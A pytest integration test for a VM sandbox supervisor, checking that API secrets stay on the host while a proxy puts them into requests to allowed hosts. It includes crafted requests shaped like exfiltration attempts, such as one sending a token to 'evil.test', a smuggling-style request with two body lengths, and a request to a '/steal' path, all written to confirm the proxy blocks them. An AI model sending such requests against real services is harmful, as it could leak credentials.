"""Secrets that never enter the guest, with real VMs and real clients
(curl, Python's urllib) in network namespaces the test makes (tests/support/netlab.py): a tap
sandbox whose guest holds placeholders, the supervisor's proxy putting the value in on
the way to the hosts the secret allows, a stand-in HTTPS internet (tests/support/httpslab.py)
recording what arrives. One sandbox serves the whole module's checks (boots are dear
under TCG); its clone and a restart of the supervisor follow in the same test."""

from __future__ import annotations

import gc
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import trio

from actors.model import Action, NetMode, Network, SandboxConfig, State
from actors.registry import Registry
from actors.sandboxes import secrets as live
from actors.sandboxes.sandbox import Sandbox
from actors.secrets.model import PLACEHOLDER_PREFIX, SecretRef
from images.build import Image
from supervisor.client import AsyncSandbox, PermissionDenied, Secret
from supervisor.main.throwaway import supervisor, workdir
from tests.support.httpslab import HttpsServer, https_server
from tests.support.netlab import POOL, UPLINK_HOST, UPLINK_INET, link_internet, namespaces

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, TAP, jail)")

VALUE = b"sk-live-0123456789abcdef-THE-REAL-VALUE"
OTHER_VALUE = b"other-value-fedcba9876543210"
ROTATED = b"sk-live-rotated-value-ABCDEFGH"
URLLIB = """
import os, sys, urllib.request
req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
print(urllib.request.urlopen(req, timeout=30).read().decode().strip())
"""

# crafted requests on an intercepted connection (the guest's Python, raw over TLS):
# each must come back 400 from the proxy and never reach the server
CRAFTED = r"""
import os, socket, ssl
ph = os.environ["TOKEN"]
cases = {
    "absolute-form": f"GET https://evil.test/c?k={ph} HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "empty-host": f"GET /empty-host HTTP/1.1\r\nHost:\r\nAuthorization: Bearer {ph}\r\n\r\n",
    "both-lengths": f"POST /both-lengths HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {ph}\r\n"
    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
}
ctx = ssl.create_default_context()
for name, text in cases.items():
    s = ctx.wrap_socket(socket.create_connection(("api.test", 443), timeout=30), server_hostname="api.test")
    s.sendall(text.encode())
    out = b""
    while True:
        try:
            data = s.recv(65536)
        except OSError:
            break
        if not data:
            break
        out += data
    print(name, out.split(b"\r\n", 1)[0].decode())
"""


@asynccontextmanager
async def lab() -> AsyncIterator[tuple[Any, HttpsServer]]:
    with namespaces("svh", "svi") as (host, inet):
        link_internet(host, inet)
        with host.entered():
            async with trio.open_nursery() as nursery:
                from tests.support.netlab import dns_server

                server: HttpsServer = await nursery.start(https_server, inet, "0.0.0.0")
                # the host's own address: never reached through the proxy either
                server.host_side = await nursery.start(https_server, host, UPLINK_HOST)
                await nursery.start(dns_server, inet, UPLINK_INET)
                with workdir("sv-secrets-", private_state=True) as work:
                    (work.root / "upstream-ca.pem").write_bytes(server.ca_pem())
                    yield work, server
                nursery.cancel_scope.cancel()


@asynccontextmanager
async def serving(work: Any, **options: Any) -> AsyncIterator[Registry]:
    opts = {
        "ip_pool": POOL,
        "dns_upstreams": (UPLINK_INET,),
        "stop_timeout": 5,
        "upstream_ca": work.root / "upstream-ca.pem",
        **options,
    }
    async with supervisor(work, **opts) as (_, registry):
        yield registry


async def ready(sb: Sandbox) -> Sandbox:
    with trio.fail_after(240):
        await sb.ready_event.wait()
    assert sb.state == State.READY, sb.record.error
    return sb


async def run(sb: Sandbox, *argv: str, ok: bool = True) -> tuple[int, str]:
    """A Run through the sandbox's workloads (so its processes' environment applies)."""
    out = b""
    code = -1
    with trio.fail_after(120):
        async for stream, data, exit_code in sb.run_workload(list(argv), env={}):
            if stream == "exit":
                code = exit_code if exit_code is not None else -1
            else:
                out += data
    if ok:
        assert code == 0, out
    return code, out.decode(errors="replace")


def curl(url: str, *extra: str) -> list[str]:
    return ["sh", "-c", f'curl -sS --max-time 30 {" ".join(extra)} -H "Authorization: Bearer $TOKEN" {url}']


def scan(paths: list[Path], needle: bytes) -> list[str]:
    """Files under ``paths`` holding ``needle`` (read in blocks, overlapping)."""
    hits = []
    for top in paths:
        for root, _dirs, files in os.walk(top):
            for f in files:
                p = Path(root) / f
                if p.is_symlink() or not p.is_file():
                    continue
                with open(p, "rb") as fh:
                    tail = b""
                    while block := fh.read(1 << 20):
                        if needle in tail + block:
                            hits.append(str(p))
                            break
                        tail = block[-len(needle) :]
    return hits


# the first supervisor leaves its QEMU running (keep_sandboxes) for the second to adopt
@pytest.mark.filterwarnings("ignore:subprocess .* is still running:ResourceWarning")
async def test_secrets_stay_on_the_host(image: Image) -> None:
    async with lab() as (work, server):
        async with serving(work, keep_sandboxes=True) as reg:
            sb = await create_through_the_edges(reg, work)
            placeholder = next(r.placeholder for r in sb.config.secrets if r.name == "TOKEN")
            assert placeholder.startswith(PLACEHOLDER_PREFIX + "TOKEN_")
            first_proxy = proxy_confined(sb)
            await checks_on_a_running_sandbox(reg, sb, server, placeholder)
            await jailed_user_mode_outbound(reg, server)
            await checkpoint_and_clone(reg, sb, server, work, placeholder)
        gc.collect()
        assert not Path(f"/proc/{first_proxy}").exists()  # (the first supervisor's exit reaped it)
        async with serving(work) as reg:  # adopts s: the CA its guest trusts, the values, from the vault
            sb = reg.get("s")
            assert sb.state == State.READY
            pid = proxy_confined(sb)  # a new proxy process for the adopted sandbox
            before = len(server.to("api.test"))
            _, out = await run(sb, *curl("https://api.test/after-restart"))
            assert out.startswith("hello api.test GET /after-restart"), out
            got = server.to("api.test")[before:]
            assert [s.headers["authorization"] for s in got] == ["Bearer " + ROTATED.decode()]
            await reg.remove("s", force=True)
            assert not Path(f"/proc/{pid}").exists()  # killed and reaped with its sandbox
            vault = reg.settings.vault
            assert vault is not None and sb.record.uid not in vault.owners


def proxy_confined(sb: Sandbox) -> int:
    """The sandbox's proxy process runs confined: not root, no capabilities,
    no_new_privs, namespaces of its own (mount: it sees no state dir; net: empty) -> its pid."""
    assert sb.life is not None and sb.life.secrets is not None and sb.life.secrets.cell is not None
    pid = sb.life.secrets.cell.pid
    assert pid > 0
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
    uids = fields["Uid"].split()
    assert uids[0] != "0" and len(set(uids)) == 1, uids
    for cap in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb"):
        assert int(fields[cap], 16) == 0, (cap, fields[cap])
    assert fields["NoNewPrivs"].strip() == "1"
    for ns in ("mnt", "net", "pid"):
        assert os.readlink(f"/proc/{pid}/ns/{ns}") != os.readlink(f"/proc/self/ns/{ns}"), ns
    root = Path(f"/proc/{pid}/root")
    assert not (root / str(sb.settings.sandboxes_dir).lstrip("/")).exists()  # its view has no state dir
    return pid


async def cli(work: Any, *args: str, stdin: bytes = b"") -> str:
    def call() -> subprocess.CompletedProcess[bytes]:
        argv = [sys.executable, "-m", "supervisor.main.cli", *args]
        return subprocess.run(argv, check=False, input=stdin, env=work.env(), capture_output=True, timeout=60)

    r = await trio.to_thread.run_sync(call)
    assert r.returncode == 0, r.stderr
    return r.stdout.decode()


async def create_through_the_edges(reg: Registry, work: Any) -> Sandbox:
    """The store's entry by the CLI (value on stdin), the sandbox by the SDK (an ``env:``
    source read from this process's environment, a ``store:`` one), read back by the CLI."""
    await cli(work, "secret", "set", "other_key", "--hosts", "other.test,*.other.test", stdin=OTHER_VALUE + b"\n")
    assert (await cli(work, "secret", "ls")).split() == ["other_key"]
    # the entry's hosts bound every Create that names it: widening them is refused
    for wide in ("api.test", "other.test,x.api.test", "other.test:8443"):
        with pytest.raises(PermissionDenied, match="not within the hosts of the store entry"):
            await AsyncSandbox.create("w", socket=work.socket, network="tap", secrets=[f"W=store:other_key@{wide}"])
    os.environ["SV_TEST_TOKEN"] = VALUE.decode()
    try:  # TOKEN is put in the URL and body too; OTHER (narrowing its entry's hosts) in headers only
        secrets = [
            "TOKEN=env:SV_TEST_TOKEN@api.test;substitute=all",
            Secret(name="OTHER", store="other_key", hosts="other.test"),
        ]
        box = await AsyncSandbox.create("s", socket=work.socket, network="tap", secrets=secrets, detached=True)
    finally:
        del os.environ["SV_TEST_TOKEN"]
    listed = json.loads(await cli(work, "secret", "ls", "--sandbox", box.id, "--json"))
    assert [(x["name"], x["source"], x["hosts"], x["substitute"]) for x in listed] == [
        ("TOKEN", "value", ["api.test"], "all"),
        ("OTHER", "store:other_key", ["other.test"], "headers"),
    ]
    out = json.dumps(listed) + json.dumps(await box.inspect(), default=str)
    assert VALUE.decode() not in out and OTHER_VALUE.decode() not in out
    return await ready(reg.get("s"))


async def checks_on_a_running_sandbox(reg: Registry, sb: Sandbox, server: HttpsServer, placeholder: str) -> None:
    # the guest holds the placeholder, never the value
    _, out = await run(sb, "sh", "-c", "echo $TOKEN; env")
    assert out.splitlines()[0] == placeholder
    assert VALUE.decode() not in out and OTHER_VALUE.decode() not in out
    assert "SSL_CERT_FILE=/etc/sandvisor/ca-bundle.pem" in out
    await sb.guest_call(lambda g: g.channel.write_file("/tmp/urllib_get.py", URLLIB.encode()))
    await sb.guest_call(lambda g: g.channel.write_file("/tmp/test-ca.pem", server.ca_pem()))

    # curl and urllib to an allowed host: the server gets the value
    _, out = await run(sb, *curl("https://api.test/curl"))
    assert out.startswith("hello api.test GET /curl"), out
    _, out = await run(sb, "python3", "/tmp/urllib_get.py", "https://api.test/urllib")
    assert out.startswith("hello api.test GET /urllib"), out
    got = {s.target: s.headers["authorization"] for s in server.to("api.test")}
    assert got == {"/curl": "Bearer " + VALUE.decode(), "/urllib": "Bearer " + VALUE.decode()}
    # an allowed host that echoes the value back gives the guest the placeholder, not the value
    _, out = await run(sb, *curl("https://api.test/echo", "-i"))
    assert f"you sent: Bearer {placeholder}" in out and f"x-echo: Bearer {placeholder}" in out, out
    assert VALUE.decode() not in out
    (echo,) = [s for s in server.to("api.test") if s.target == "/echo"]
    assert echo.headers["authorization"] == "Bearer " + VALUE.decode()
    # in the body too (bounded), with the length set again
    _, out = await run(sb, "sh", "-c", 'curl -sS --max-time 30 -d "token=$TOKEN&x=1" https://api.test/form')
    (form,) = [s for s in server.to("api.test") if s.target == "/form"]
    assert form.body == b"token=" + VALUE + b"&x=1" and form.headers["content-length"] == str(len(form.body))

    # a secret substituted in headers only: its placeholder goes as it is in the body
    _, out = await run(
        sb, "sh", "-c", 'curl -sS --max-time 30 -H "X-Key: $OTHER" -d "k=$OTHER" https://other.test/headers-only'
    )
    (only,) = [s for s in server.to("other.test") if s.target == "/headers-only"]
    assert (
        only.headers["x-key"] == OTHER_VALUE.decode() and OTHER_VALUE not in only.body and b"k=SANDVISOR" in only.body
    )

    # held to the SNI: an absolute-form target, an empty Host, both body lengths: 400 here, nothing there
    await sb.guest_call(lambda g: g.channel.write_file("/tmp/crafted.py", CRAFTED.encode()))
    _, out = await run(sb, "python3", "/tmp/crafted.py")
    assert out.splitlines() == [
        f"{case} HTTP/1.1 400 Bad Request" for case in ("absolute-form", "empty-host", "both-lengths")
    ], out
    assert not [s for s in server.seen if "evil.test" in s.target or s.target in ("/empty-host", "/both-lengths")]
    # an allowed host that echoes the value gzip'd (asked for identity or not): inflated, scrubbed
    _, out = await run(sb, *curl("https://api.test/echo-gz", "--compressed"))
    assert out.strip() == f"you sent: Bearer {placeholder}", out
    (gz,) = [s for s in server.to("api.test") if s.target == "/echo-gz"]
    assert gz.headers["accept-encoding"] == "identity" and gz.headers["authorization"] == "Bearer " + VALUE.decode()

    # the placeholder to a host its secret does not allow: 403 here, nothing there, an event
    sub = reg.events.subscribe("s", Action.SECRET_BLOCKED)
    code, out = await run(sb, *curl("https://other.test/steal", "-w", "'%{http_code}'"), ok=False)
    assert out.endswith("403") and "secret TOKEN may not be sent to other.test" in out, out
    assert [s for s in server.to("other.test") if s.target == "/steal"] == []
    with trio.fail_after(10):
        ev = await sub.receive.receive()
    reg.events.unsubscribe(sub)
    assert ev.attributes == {"secret": "TOKEN", "host": "other.test:443"}
    logged = b"\n".join(r.data for r in await sb.log.read(tail=50))
    assert b"secret TOKEN: a request to other.test:443 was refused" in logged

    # a host no secret names is not intercepted: the guest verifies the real server's
    # certificate with the test CA alone (the proxy's would fail that), and the
    # placeholder goes out as it is (worthless anywhere)
    _, out = await run(sb, *curl("https://plain.test/plain", "--cacert", "/tmp/test-ca.pem"))
    assert out.startswith("hello plain.test GET /plain"), out
    (plain,) = server.to("plain.test")
    assert plain.headers["authorization"] == "Bearer " + placeholder
    # ... while api.test is: the real server's CA alone does not verify what the guest gets
    code, _ = await run(sb, *curl("https://api.test/pinned", "--cacert", "/tmp/test-ca.pem"), ok=False)
    assert code == 60  # curl: the peer's certificate cannot be verified
    # QUIC to any host is refused here (admin-prohibited: EHOSTUNREACH; the server's
    # namespace itself would answer port-unreachable: ECONNREFUSED)
    code, out = await run(
        sb,
        "python3",
        "-c",
        "import socket, errno; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3);"
        "s.connect(('203.0.113.10', 443)); s.send(b'x');\n"
        "try:\n s.recv(10); print('answered')\nexcept OSError as e: print(errno.errorcode.get(e.errno, e))",
    )
    assert out.strip() == "EHOSTUNREACH", out

    # the host itself stays out of reach through the proxy (its input chain keeps the guest
    # out; the proxy's own connections are judged by the sandbox's chain and "not local")
    code, out = await run(sb, "curl", "-sSk", "--max-time", "20", f"https://{UPLINK_HOST}/", ok=False)
    assert server.host_side is not None
    assert code != 0 and server.host_side.seen == [], out

    # rotation: the next request carries the new value, the placeholder stays
    live.rotate(sb, "TOKEN", ROTATED)
    _, out = await run(sb, *curl("https://api.test/rotated"))
    (rot,) = [s for s in server.to("api.test") if s.target == "/rotated"]
    assert rot.headers["authorization"] == "Bearer " + ROTATED.decode()
    _, out = await run(sb, "sh", "-c", "echo $TOKEN")
    assert out.strip() == placeholder
    # removal of OTHER: its placeholder is no longer put in (nor its host intercepted)
    live.remove(sb, "OTHER")
    _, out = await run(sb, "sh", "-c", "echo ${OTHER:-unset}")
    assert out.strip() == "unset"


async def jailed_user_mode_outbound(reg: Registry, server: HttpsServer) -> None:
    """The other mode the proxy serves: slirp in the jail's namespace, out by its uplink."""
    config = SandboxConfig(
        network=Network(mode=NetMode.USER, outbound=True), secrets=(SecretRef("TOKEN", ("api.test",)),)
    )
    u = await ready(await reg.create("u", config, {"TOKEN": b"user-mode-value-0123456789"}))
    assert u.life is not None and u.life.link is not None and u.life.link.jail_netns  # (jailed, by its uplink)
    _, out = await run(u, *curl("https://api.test/user-mode"))
    assert out.startswith("hello api.test GET /user-mode"), out
    (got,) = [s for s in server.to("api.test") if s.target == "/user-mode"]
    assert got.headers["authorization"] == "Bearer user-mode-value-0123456789"
    await reg.remove("u", force=True)


async def checkpoint_and_clone(reg: Registry, sb: Sandbox, server: HttpsServer, work: Any, placeholder: str) -> None:
    snap, _ = await reg.checkpoint("s", name="with-secrets")
    memory_dirs = [Path(p) for p in (reg.settings.memory_dir,) if p is not None]
    clone = await ready(await reg.restore(snap.id, id="clone"))
    clone_placeholder = next(r.placeholder for r in clone.config.secrets if r.name == "TOKEN")
    assert clone_placeholder != placeholder
    _, out = await run(clone, "sh", "-c", "echo $TOKEN")
    assert out.strip() == clone_placeholder
    _, out = await run(clone, *curl("https://api.test/clone"))
    (got,) = [s for s in server.to("api.test") if s.target == "/clone"]
    assert got.headers["authorization"] == "Bearer " + ROTATED.decode()
    # the clone's CA is its own: the origin's bundle block was replaced
    _, ca_origin = await run(sb, "cat", "/etc/sandvisor/ca.pem")
    _, ca_clone = await run(clone, "cat", "/etc/sandvisor/ca.pem")
    assert ca_origin != ca_clone
    # nowhere on disk or in guest memory files: the state dir (snapshots, disks, the
    # database, logs; the vault is encrypted), the run dirs, the RAM files
    for value in (VALUE, OTHER_VALUE, ROTATED):
        hits = scan([work.state, work.run_root, *memory_dirs], value)
        assert hits == [], hits
    assert scan([work.state], placeholder.encode())  # (the scan finds what is there: the record's placeholder)
    await reg.remove("clone", force=True)
